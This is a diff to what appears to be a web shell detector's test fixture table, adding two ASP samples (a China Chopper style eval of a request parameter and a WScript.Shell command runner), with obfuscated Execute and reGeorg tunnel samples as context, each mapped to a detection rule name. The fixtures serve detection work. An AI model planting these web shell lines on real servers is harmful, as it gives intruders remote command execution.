@@ -27,6 +27,11 @@ const Example kShells[] = {
      "<%\r\ns = \"hydo#uhtxhvw+%n%,\"\r\nExecute(Un(s))\r\nFunction Un(t)\r\nFor i = 1 To Len(t)\r\n"
      "Un = Un & Chr(Asc(Mid(t, i, 1)) - 3)\r\nNext\r\nEnd Function\r\n%>",
      "SC_VBScript_Execute_Decoded"},
+    // As the de-obfuscation pass's folded text reads: the pieces have become one literal
+    {"folded_execute_of_eval_request", "/x.asp", "<% Execute(\"eval request(\"\"k\"\")\") %>",
+     "SC_ChinaChopper_Eval_Request"},
+    {"folded_execute_of_shell_run", "/x.asp",
+     "<% Execute(\"CreateObject(\"\"WScript.Shell\"\").Run Request(\"\"c\"\"), 0\") %>", "SC_ASP_WScript_Shell_Exec"},
     // HTTP-to-TCP tunnels (reGeorg family), rules/tunnels.yar
     {"tunnel_ashx_header_target", "/aspnet_client/t.ashx",
      "<%@ WebHandler Language=\"C#\" Class=\"T\" %>\nusing System.Net;\nusing System.Net.Sockets;\nusing System.Web;\n"
